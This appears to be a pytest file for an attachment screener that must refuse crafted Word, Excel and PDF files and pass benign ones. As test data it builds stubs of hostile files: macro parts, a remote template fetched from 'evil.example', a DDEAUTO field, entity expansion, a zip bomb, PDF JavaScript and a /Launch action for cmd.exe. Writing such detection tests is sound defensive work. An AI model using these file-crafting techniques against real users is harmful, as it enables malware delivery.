"""Crafted papers: macros, programs and what is loaded from elsewhere are refused."""

import io
import zipfile
import zlib

import docx
import openpyxl
import pytest

from attachments import papers

REL = '<Relationship Id="r1" Type="http://x/relationships/{}" Target="{}" TargetMode="{}"/>'
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'


def package(main="word/document.xml", text="<w/>", **parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(main, text)
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/"), content)
    return out.getvalue()


def with_relation(kind, target="https://evil.example/a.dotm", mode="External"):
    xml = RELS.format(REL.format(kind, target, mode))
    return package(**{"word/_rels/settings.xml.rels": xml})


def pdf(*objects):
    return b"%PDF-1.7\n" + b"\n".join(objects) + b"\n%%EOF"


def packed(content):
    body = zlib.compress(content)
    return b"5 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n" + body + b"\nendstream endobj"


ENTITY = '<!DOCTYPE r [<!ENTITY a "aaaa">]>' + RELS.format("&a;")
OLE = "\x01Ole10Native".encode("utf-16-le")
CONTENT_TYPES = "[Content_Types].xml"
REFUSED = {
    "a macro": ("docx", package(**{"word/vbaProject.bin": b"x"})),
    "a macro of a workbook": ("xlsx", package("xl/workbook.xml", **{"xl/vbaProject.bin": b"x"})),
    "a type with macros": ("docx", package(**{CONTENT_TYPES: "<a t='x.macroEnabled.main+xml'/>"})),
    "an ActiveX control": ("docx", package(**{"word/activeX/activeX1.xml": "<a/>"})),
    "a packed program": ("docx", package(**{"word/embeddings/oleObject1.bin": b"x" + OLE})),
    "a remote template": ("docx", with_relation("attachedTemplate")),
    "a remote picture": ("docx", with_relation("image")),
    "a remote object": ("xlsx", package("xl/workbook.xml", **{
        "xl/worksheets/_rels/sheet1.xml.rels": RELS.format(REL.format("oleObject", "x", "External"))
    })),
    "a frame": ("docx", with_relation("frame")),
    "a field that starts a program": ("docx", package(text="<w>DDEAUTO c:</w>")),
    "entities": ("docx", package(**{"word/_rels/document.xml.rels": ENTITY})),
    "relations that are no XML": ("docx", package(**{"word/_rels/document.xml.rels": "x"})),
    "a bomb": ("docx", package(**{"word/media/a.png": b"\0" * 30_000_000})),
    "another package": ("docx", package("xl/workbook.xml")),
    "a page as a PDF": ("pdf", b"<html><script>alert(1)</script></html>"),
    "a page before a PDF": ("pdf", b"<html></html>%PDF-1.7"),
    "a program as a paper": ("docx", b"MZ" + package()),
    "a script as a paper": ("xlsx", b"#!/bin/sh\n" + package("xl/workbook.xml")),
    "a script in a PDF": ("pdf", pdf(b"1 0 obj <</S /JavaScript /JS (app.alert(1))>> endobj")),
    "a script with an escaped name": ("pdf", pdf(b"1 0 obj <</S /Java#53cript>> endobj")),
    "a packed script": ("pdf", pdf(packed(b"<</S /JavaScript /JS (app.alert(1))>>"))),
    "a program started by a PDF": ("pdf", pdf(b"1 0 obj <</S /Launch /F (cmd.exe)>> endobj")),
}  # fmt: skip


@pytest.mark.parametrize(("ending", "raw"), REFUSED.values(), ids=REFUSED)
def test_a_paper_that_does_more_than_be_read_is_refused(ending, raw):
    with pytest.raises(papers.Unfit):
        papers.look_through(raw, ending)


def word():
    out = io.BytesIO()
    paper = docx.Document()
    paper.add_paragraph("检查报告")
    paper.save(out)
    return out.getvalue()


def workbook():
    out = io.BytesIO()
    book = openpyxl.Workbook()
    book.active["A1"] = "事项"
    book.active["A1"].hyperlink = "https://www.yk.gov.cn/"
    book.save(out)
    return out.getvalue()


BINARY = b"1 0 obj <</Length 9>> stream\n/JavaScript /Launch\nendstream endobj"
FIT = {
    "a report": ("docx", word()),
    "a workbook with a link": ("xlsx", workbook()),
    "a link": ("docx", with_relation("hyperlink")),
    "a relation within": ("docx", with_relation("image", "media/a.png", "Internal")),
    "an old equation": ("docx", package(**{"word/embeddings/oleObject1.bin": b"Equation"})),
    "a PDF": ("pdf", pdf(b"1 0 obj <</Type /Catalog>> endobj")),
    "a PDF whose picture looks like a script": ("pdf", pdf(BINARY)),
}


@pytest.mark.parametrize(("ending", "raw"), FIT.values(), ids=FIT)
def test_an_honest_paper_passes(ending, raw):
    papers.look_through(raw, ending)
